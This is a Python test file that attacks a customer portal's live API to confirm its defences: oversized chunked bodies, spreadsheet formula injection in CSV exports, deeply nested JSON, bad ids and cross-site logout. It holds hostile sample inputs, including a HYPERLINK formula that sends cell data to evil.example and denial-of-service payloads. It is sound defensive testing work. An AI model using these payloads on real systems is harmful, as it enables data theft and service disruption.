"""What a hostile tester tried against the running portal (issue 14), attacked the same way:
a real server process (uvicorn serving portal.api.app:build_api on loopback) and real HTTP.
Every refusal is paired with the same request done right, which succeeds."""

from __future__ import annotations

import csv
import io
import json
import re
import select as io_select
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from portal.domain import account, auth, billing
from portal.domain.api.resources import MAX_FILE_BYTES
from portal.domain.audit import RequestInfo
from portal.domain.errors import DomainError
from portal.integrations import aftership
from portal.models import InvoiceStatus, MailMessage, Payment, PaymentStatus, User
from portal.settings import get_settings
from tests.factories import make_customer, principal_for
from tests.factories_api import customer_body, make_api_key
from tests.factories_billing import make_billed_invoice, make_document, make_payment, provider_event, signed
from tests.support.live_api import LiveApi, serve_api

COOKIE = get_settings().session_cookie_name
MB = 1024 * 1024


@pytest.fixture(scope="module")
def api(engine: Engine, root_dir: Path) -> Iterator[LiveApi]:
    with serve_api(root_dir) as server:
        yield server


def cookie_for(db: Session, user: User) -> dict[str, str]:
    new = auth.create_session(db, user=user, request=RequestInfo(), auth_method="password", mfa_verified=False)
    db.commit()
    return {COOKIE: new.raw_token}


# 1. Bodies are read up to their limit, whatever the headers say -----------------------------

class RssWatch:
    """Samples a process's resident memory every few milliseconds; `peak` is the highest seen."""

    def __init__(self, api: LiveApi) -> None:
        self.process = api.process
        self.baseline = self.peak = self.process.memory_info().rss
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, self.process.memory_info().rss)
            time.sleep(0.005)

    def __enter__(self) -> RssWatch:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        time.sleep(0.3)  # whatever the server still holds shows now
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, self.process.memory_info().rss)


def stream_chunked(api: LiveApi, method: str, path: str, *, total: int, headers: dict[str, str]) -> tuple[int, int]:
    """Sends a chunked body of `total` bytes (no Content-Length), generated as it goes, and stops
    as soon as the server answers. Returns (status, bytes sent)."""
    block = b"x" * (256 * 1024)
    frame = f"{len(block):x}\r\n".encode() + block + b"\r\n"
    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    with socket.create_connection(("127.0.0.1", api.port), timeout=30) as sock:
        sock.sendall(f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{api.port}\r\n"
                     f"Transfer-Encoding: chunked\r\n{head}\r\n".encode())
        sent = 0
        while sent < total:
            if io_select.select([sock], [], [], 0)[0]:
                break  # the server has answered
            try:
                sock.sendall(frame)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += len(block)
        else:
            sock.sendall(b"0\r\n\r\n")
        answer = b""
        try:
            while b"\r\n\r\n" not in answer:
                part = sock.recv(65536)
                if not part:
                    break
                answer += part
        except ConnectionResetError:
            pass
    status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0
    return status, sent


def carrier_headers(raw: bytes) -> dict[str, str]:
    return {aftership.SIGNATURE_HEADER: aftership.sign(raw, get_settings().aftership_webhook_secret),
            "content-type": "application/json"}


@pytest.mark.parametrize("method, path, limit", [
    ("POST", "/api/carrier/webhooks/aftership", 1 * MB),
    ("POST", "/api/webhooks/payments", 64 * 1024),
    ("PUT", "/api/v1/customers/crm-1", 1 * MB),
    # A document file may be 20 MB, so up to that much is held while it arrives; never more.
    ("PUT", "/api/v1/documents/doc-1/file", MAX_FILE_BYTES),
    ("POST", "/_simulator/aftership/tracking/2026-07/trackings", 64 * 1024),
])
def test_a_huge_chunked_body_is_refused_without_the_server_holding_it(api: LiveApi, method: str, path: str,
                                                                      limit: int) -> None:
    headers = {"content-type": "application/json", "as-api-key": get_settings().aftership_api_key,
               "authorization": "Bearer not-a-key"}
    # Warm the route up, so what it imports and caches once is not counted as the body's
    stream_chunked(api, method, path, total=2 * MB, headers=headers)
    with RssWatch(api) as rss:
        status, sent = stream_chunked(api, method, path, total=200 * MB, headers=headers)
    assert status == 413
    assert sent < 50 * MB, "the server kept reading after the limit"
    assert rss.peak - rss.baseline < limit + 4 * MB, f"server memory grew by {(rss.peak - rss.baseline) / MB:.1f} MB"


def test_small_bodies_are_still_accepted_chunked_or_not(api: LiveApi, db: Session) -> None:
    # Carrier webhook: a small signed webhook is stored and acknowledged, chunked or not
    for n, chunked in enumerate((False, True)):
        raw = json.dumps({"event_id": f"evt-small-{n}", "event": "tracking_update", "ts": 1,
                          "msg": {"id": "t1", "slug": "dhl", "tracking_number": f"NOPE{n}", "tag": "InTransit",
                                  "checkpoints": []}}).encode()
        content = iter([raw]) if chunked else raw
        r = httpx.post(f"{api.url}/api/carrier/webhooks/aftership", content=content, headers=carrier_headers(raw))
        assert r.status_code == 200, r.text
    # Payment webhook: a small signed event pays the invoice
    ua, ca = make_customer(db)
    inv = make_billed_invoice(db, ca)
    started = billing.start_payment(db, principal=principal_for(ua), invoice_id=inv.id or 0,
                                    provider_base_url=api.url, return_url=f"{api.url}/back")
    db.commit()
    pay = db.get(Payment, started.payment_id)
    assert pay is not None
    body, sig = signed(provider_event(pay))
    r = httpx.post(f"{api.url}/api/webhooks/payments", content=iter([body]), headers={"Sim-Signature": sig})
    assert r.status_code == 200 and r.json()["outcome"] == "succeeded"
    db.refresh(inv)
    assert inv.status == InvoiceStatus.PAID
    # Integration API: a small JSON body, chunked, creates the customer
    _, key = make_api_key(db, "customers:write", "customers:read")
    r = httpx.put(f"{api.url}/api/v1/customers/crm-small", content=iter([json.dumps(customer_body()).encode()]),
                  headers={"authorization": f"Bearer {key}", "content-type": "application/json"})
    assert r.status_code == 201, r.text
    # The hosted payment page's small form is read too
    started = billing.start_payment(db, principal=principal_for(ua), invoice_id=make_billed_invoice(db, ca).id or 0,
                                    provider_base_url=api.url, return_url=f"{api.url}/back")
    db.commit()
    r = httpx.post(started.url, data={"card": "4242 4242 4242 4241", "exp": "12/39", "cvc": "123"})
    assert r.status_code == 402 and "invalid" in r.text
    huge = httpx.post(started.url, content=iter([b"card=" + b"4" * (64 * 1024)]),
                      headers={"content-type": "application/x-www-form-urlencoded"})
    assert huge.status_code == 413


# 5. CSV cells that a spreadsheet would run as formulas are neutralised --------------------------

def test_payments_csv_neutralises_formulas_in_every_cell(api: LiveApi, db: Session) -> None:
    ua, ca = make_customer(db)
    inv = make_billed_invoice(db, ca, status=InvoiceStatus.PAID)
    evil = make_payment(db, ca, inv, amount_cents=500, status=PaymentStatus.FAILED)
    evil.method_label = "\t=1+2"
    evil.failure_reason = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    db.add(evil)
    plain = make_payment(db, ca, inv, amount_cents=13495, days_ago=2)  # the same row done right
    db.commit()
    r = httpx.get(f"{api.url}/api/files/payments.csv", cookies=cookie_for(db, ua))
    assert r.status_code == 200
    rows = {row[1]: row for row in csv.reader(io.StringIO(r.text))}
    assert rows[str(evil.id)][5] == "'\t=1+2"
    assert rows[str(evil.id)][7] == "'" + evil.failure_reason
    assert rows[str(plain.id)][5] == plain.method_label and rows[str(plain.id)][3] == "134.95"


# 6. Bad input gets a 4xx naming what is wrong, never a 500 -------------------------------------

def test_deeply_nested_json_is_a_400_naming_the_body(api: LiveApi, db: Session) -> None:
    _, key = make_api_key(db, "customers:write", "customers:read")
    headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
    deep = b'{"name": "Dana", "email": "dana@example.com", "country": "GB", "x": ' + b"[" * 100_000 + b"]" * 100_000
    r = httpx.put(f"{api.url}/api/v1/customers/crm-deep", content=deep + b"}", headers=headers)
    assert r.status_code == 400, r.text
    assert r.json()["errors"][0]["field"] == "body" and "nested" in r.json()["detail"]
    ok = httpx.put(f"{api.url}/api/v1/customers/crm-deep", json=customer_body(), headers=headers)
    assert ok.status_code == 201, ok.text


HUGE = "999999999999999999999999"


@pytest.mark.parametrize("template", [
    "/api/files/invoices/{}.pdf", "/api/files/receipts/{}.pdf", "/api/files/documents/{}",
    "/api/returns/{}/label.pdf", "/api/support/attachments/{}",
])
def test_an_out_of_range_id_in_a_download_route_is_a_400_naming_it(api: LiveApi, db: Session, template: str) -> None:
    ua, _ = make_customer(db)
    cookies = cookie_for(db, ua)
    for bad in (HUGE, "2147483648", "0", "-1", "١٢"):
        r = httpx.get(api.url + template.format(bad), cookies=cookies)
        assert r.status_code == 400, (bad, r.status_code, r.text)
        assert "_id must be a whole number" in r.text
    # A well-formed id that is not theirs is the usual 404
    assert httpx.get(api.url + template.format(2147483647), cookies=cookies).status_code == 404


def test_a_customer_still_downloads_their_own_invoice_by_id(api: LiveApi, db: Session) -> None:
    ua, ca = make_customer(db)
    inv = make_billed_invoice(db, ca)
    r = httpx.get(f"{api.url}/api/files/invoices/{inv.id}.pdf", cookies=cookie_for(db, ua))
    assert r.status_code == 200 and r.content.startswith(b"%PDF-")


# 7. Private downloads are never stored ------------------------------------------------------------

def test_every_private_download_family_says_no_store(api: LiveApi, db: Session) -> None:
    ua, ca = make_customer(db)
    inv = make_billed_invoice(db, ca, status=InvoiceStatus.PAID)
    pay = make_payment(db, ca, inv)
    doc = make_document(db, ca)
    cookies = cookie_for(db, ua)
    for path in (f"/api/files/invoices/{inv.id}.pdf", f"/api/files/receipts/{pay.id}.pdf",
                 "/api/files/statement.pdf?from=2020-01-01&to=2029-12-31", "/api/files/payments.csv",
                 f"/api/files/documents/{doc.id}", "/api/account/export"):
        r = httpx.get(api.url + path, cookies=cookies)
        assert r.status_code == 200, (path, r.status_code)
        directives = {d.strip() for d in r.headers["cache-control"].split(",")}
        assert "no-store" in directives and "private" in directives, (path, r.headers["cache-control"])
        assert "no-cache" not in directives


# 3. Another site cannot sign anyone out -------------------------------------------------------------

def test_logout_is_a_same_origin_post_and_a_get_signs_nobody_out(api: LiveApi, db: Session) -> None:
    ua, ca = make_customer(db)
    inv = make_billed_invoice(db, ca)
    cookies = cookie_for(db, ua)
    token = cookies[COOKIE]

    def signed_in() -> bool:
        db.expire_all()
        return auth.resolve_session(db, raw_token=token) is not None

    # A link or an image on any site: GET answers a page with a button, and the session lives on
    r = httpx.get(f"{api.url}/api/auth/logout", cookies=cookies, headers={"referer": "https://evil.example/"})
    assert r.status_code == 200 and 'method="post"' in r.text and "set-cookie" not in r.headers
    assert signed_in()
    assert httpx.get(f"{api.url}/api/files/invoices/{inv.id}.pdf", cookies=cookies).status_code == 200
    # A form posted from another site is refused by the origin check
    r = httpx.post(f"{api.url}/api/auth/logout", cookies=cookies, headers={"origin": "https://evil.example"})
    assert r.status_code == 403 and signed_in()
    # The portal's own page posts it: signed out, cookie cleared, the session is worthless
    r = httpx.post(f"{api.url}/api/auth/logout", cookies=cookies,
                   headers={"origin": get_settings().portal_public_url})
    assert r.status_code == 303 and r.headers["location"].endswith("/login?signed_out=1")
    assert f"{COOKIE}=" in r.headers["set-cookie"] and "Max-Age=0" in r.headers["set-cookie"]
    assert not signed_in()
    assert httpx.get(f"{api.url}/api/files/invoices/{inv.id}.pdf", cookies=cookies).status_code == 401
    # Once the session has ended (the app ends it over the websocket first), GET clears the dead cookie
    r = httpx.get(f"{api.url}/api/auth/logout", cookies=cookies)
    assert r.status_code == 303 and "Max-Age=0" in r.headers["set-cookie"]


# 8. Customers invited through the integration API can sign in --------------------------------------

def test_a_customer_invited_through_the_api_signs_in_after_choosing_a_password(api: LiveApi, db: Session) -> None:
    _, key = make_api_key(db, "customers:write", "customers:read")
    email = "invited.person@example.com"
    r = httpx.put(f"{api.url}/api/v1/customers/crm-invited", json=customer_body(email=email, invite_user=True),
                  headers={"authorization": f"Bearer {key}"})
    assert r.status_code == 201, r.text
    mail = db.exec(select(MailMessage).where(MailMessage.to_address == email)).one()
    token = re.search(r"/reset\?token=([A-Za-z0-9_-]+)", mail.body_text)
    assert token is not None
    # Before choosing a password there is nothing to sign in with
    with pytest.raises(DomainError):
        auth.authenticate(db, email=email, password="a new long passphrase 7", request=RequestInfo())
    # The person follows the link they were mailed and chooses a password (what /reset does)
    account.complete_password_reset(db, token=token.group(1), new_password="a new long passphrase 7",
                                    request=RequestInfo())
    db.commit()
    user = auth.authenticate(db, email=email, password="a new long passphrase 7", request=RequestInfo())
    assert user.email_verified_at is not None
    db.commit()
    # And the browser's path works end to end: a login ticket traded for the session cookie over HTTP
    ticket = auth.issue_login_ticket(db, user=user)
    db.commit()
    r = httpx.get(f"{api.url}/api/auth/session", params={"ticket": ticket}, follow_redirects=False)
    assert r.status_code == 303 and COOKIE in r.cookies
